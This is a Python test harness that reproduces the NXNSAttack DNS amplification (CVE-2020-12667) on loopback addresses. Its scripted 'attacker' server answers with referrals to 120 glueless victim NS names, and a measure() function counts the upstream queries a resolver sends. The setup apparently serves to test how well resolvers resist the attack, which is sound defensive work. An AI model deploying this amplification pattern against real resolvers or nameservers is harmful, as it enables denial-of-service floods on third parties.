"""An NXNSAttack setup (CVE-2020-12667): scripted root, attacker and victim servers.

Owns: three in-process authoritative servers (UDP and TCP) on loopback that
count the queries they receive, and `measure()`, which sends client queries to a resolver
and returns the upstream queries each one cost.
Must not: start resolvers (the tests do) or use addresses outside 127.0.11.x.

  127.0.11.2  '.'          root: delegates attacker. and victim. with glue
  127.0.11.3  'attacker.'  answers every name below a label r<N>.attacker. with a
                           referral to FANOUT glueless NS names n<i>.r<N>.victim.
  127.0.11.4  'victim.'    answers NXDOMAIN to everything (mode "nxdomain") or
                           never answers (mode "silent")

Every client query asks a fresh r<N>, so nothing learnt from one query (NS
names, negative answers) helps the next: each costs what an attacker makes it
cost.
"""
from __future__ import annotations

import socket
import threading
import time
from collections import Counter

import dns.exception
import dns.flags
import dns.message
import dns.name
import dns.query
import dns.rcode
import dns.rdatatype as T
import dns.rrset

ROOT = "127.0.11.2"
ATTACKER = "127.0.11.3"
VICTIM = "127.0.11.4"
FANOUT = 120  # glueless NS names in each referral

SOA = "{zone} 300 IN SOA ns.{zone} host.{zone} 1 3600 900 604800 300"


def config(extra: str = "") -> str:
    """A kresd config (valid for Debian's kresd 5.6 too) resolving from the scripted root."""
    return ("modules.load('hints > iterate')\n"
            "trust_anchors.remove('.')\n"
            "option('ALLOW_LOCAL', true)\n"
            f"hints.root({{['a.root-servers.net.'] = '{ROOT}'}})\n" + extra)


def _rr(text: str) -> dns.rrset.RRset:
    name, ttl, cls, rtype, *rdata = text.split()
    return dns.rrset.from_text(name, int(ttl), cls, rtype, " ".join(rdata))


class Servers:
    """The three servers; `counts` holds the queries per server address."""

    def __init__(self, victim_mode: str = "nxdomain"):
        self.victim_mode = victim_mode
        self.counts: Counter = Counter()
        self.lock = threading.Lock()
        self._socks: list[socket.socket] = []
        self._threads: list[threading.Thread] = []
        self._stop = threading.Event()

    # -- the zones -------------------------------------------------------------

    def _answer(self, addr: str, q: dns.message.Message) -> dns.message.Message | None:
        qname, qtype = q.question[0].name, q.question[0].rdtype
        r = dns.message.make_response(q)
        r.flags &= ~dns.flags.RD
        r.flags |= q.flags & dns.flags.RD
        labels = [lab.lower() for lab in qname.labels]
        if addr == ROOT:
            return self._root(r, qname, qtype, labels)
        if addr == ATTACKER:
            return self._attacker(r, qname, qtype, labels)
        if self.victim_mode == "silent":
            return None
        r.flags |= dns.flags.AA
        r.set_rcode(dns.rcode.NXDOMAIN if len(labels) > 2 else dns.rcode.NOERROR)
        r.authority.append(_rr(SOA.format(zone="victim.")))
        return r

    @staticmethod
    def _root(r, qname, qtype, labels):
        if len(labels) == 1:  # the root itself
            r.flags |= dns.flags.AA
            if qtype == T.NS:
                r.answer.append(_rr(". 86400 IN NS a.root-servers.net."))
                r.additional.append(_rr(f"a.root-servers.net. 86400 IN A {ROOT}"))
            else:
                r.authority.append(_rr(SOA.format(zone=".").replace("ns..", "a.root-servers.net.")
                                       .replace("host..", "host.root.")))
            return r
        tld = labels[-2]
        if tld == b"root-servers":  # a.root-servers.net. under net.: answer it here
            r.flags |= dns.flags.AA
            if qtype == T.A and qname == dns.name.from_text("a.root-servers.net."):
                r.answer.append(_rr(f"a.root-servers.net. 86400 IN A {ROOT}"))
            return r
        if tld in (b"attacker", b"victim"):
            zone = tld.decode() + "."
            r.authority.append(_rr(f"{zone} 86400 IN NS ns.{zone}"))
            r.additional.append(_rr(f"ns.{zone} 86400 IN A {ATTACKER if tld == b'attacker' else VICTIM}"))
            return r
        r.flags |= dns.flags.AA
        r.set_rcode(dns.rcode.NXDOMAIN)
        return r

    @staticmethod
    def _attacker(r, qname, qtype, labels):
        if len(labels) <= 2:  # attacker. itself
            r.flags |= dns.flags.AA
            if qtype == T.NS:
                r.answer.append(_rr(f"attacker. 300 IN NS ns.attacker."))
                r.additional.append(_rr(f"ns.attacker. 300 IN A {ATTACKER}"))
            else:
                r.authority.append(_rr(SOA.format(zone="attacker.")))
            return r
        sub = labels[-3].decode()  # r<N>
        cut = f"{sub}.attacker."
        targets = " ".join(f"n{i}.{sub}.victim." for i in range(FANOUT))
        ns = dns.rrset.from_text_list(cut, 300, "IN", "NS", targets.split())
        r.authority.append(ns)
        return r

    # -- the network -----------------------------------------------------------

    def start(self) -> "Servers":
        for addr in (ROOT, ATTACKER, VICTIM):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((addr, 53))
            s.settimeout(0.2)
            t = socket.socket()
            t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            t.bind((addr, 53))
            t.listen(64)
            t.settimeout(0.2)
            self._socks += [s, t]
            for target in (self._serve, self._accept):
                th = threading.Thread(target=target, args=(addr, s if target == self._serve else t),
                                      daemon=True)
                th.start()
                self._threads.append(th)
        return self

    def _accept(self, addr: str, listener: socket.socket) -> None:
        """TCP: every query counts as well (a resolver may retry over TCP)."""
        while not self._stop.is_set():
            try:
                conn, _ = listener.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            threading.Thread(target=self._serve_tcp, args=(addr, conn), daemon=True).start()

    def _serve_tcp(self, addr: str, conn: socket.socket) -> None:
        conn.settimeout(2.0)
        with conn:
            while not self._stop.is_set():
                try:
                    hdr = conn.recv(2, socket.MSG_WAITALL)
                    if len(hdr) < 2:
                        return
                    data = conn.recv(int.from_bytes(hdr, "big"), socket.MSG_WAITALL)
                    q = dns.message.from_wire(data)
                except (OSError, dns.exception.DNSException):
                    return
                if not q.question:
                    return
                with self.lock:
                    self.counts[addr] += 1
                r = self._answer(addr, q)
                if r is not None:
                    out = r.to_wire(max_size=65535)
                    try:
                        conn.sendall(len(out).to_bytes(2, "big") + out)
                    except OSError:
                        return

    def _serve(self, addr: str, s: socket.socket) -> None:
        while not self._stop.is_set():
            try:
                data, src = s.recvfrom(65535)
            except socket.timeout:
                continue
            except OSError:
                return
            try:
                q = dns.message.from_wire(data)
            except dns.exception.DNSException:
                continue
            if not q.question:
                continue
            with self.lock:
                self.counts[addr] += 1
            r = self._answer(addr, q)
            if r is not None:
                try:
                    s.sendto(r.to_wire(max_size=65535), src)
                except OSError:
                    pass

    def stop(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(2)
        for s in self._socks:
            s.close()

    def snapshot(self) -> Counter:
        with self.lock:
            return Counter(self.counts)


def measure(servers: Servers, resolver_addr: str, queries: int, first: int = 0,
            timeout: float = 12.0, settle: float = 1.5) -> list[dict]:
    """Send `queries` client queries (www.r<N>.attacker. A, one at a time) and
    return, for each, {'total': upstream queries, 'victim': those to the victim,
    'rcode': the client's rcode or None}. After each answer the counters settle
    for `settle` seconds, so that late retries count against their query."""
    out = []
    for n in range(first, first + queries):
        before = servers.snapshot()
        q = dns.message.make_query(f"www.r{n}.attacker.", "A")
        try:
            rcode = dns.query.udp(q, resolver_addr, timeout=timeout).rcode()
        except dns.exception.Timeout:
            rcode = None
        time.sleep(settle)
        after = servers.snapshot()
        d = after - before
        out.append({"total": sum(d.values()), "victim": d[VICTIM], "rcode": rcode})
    return out
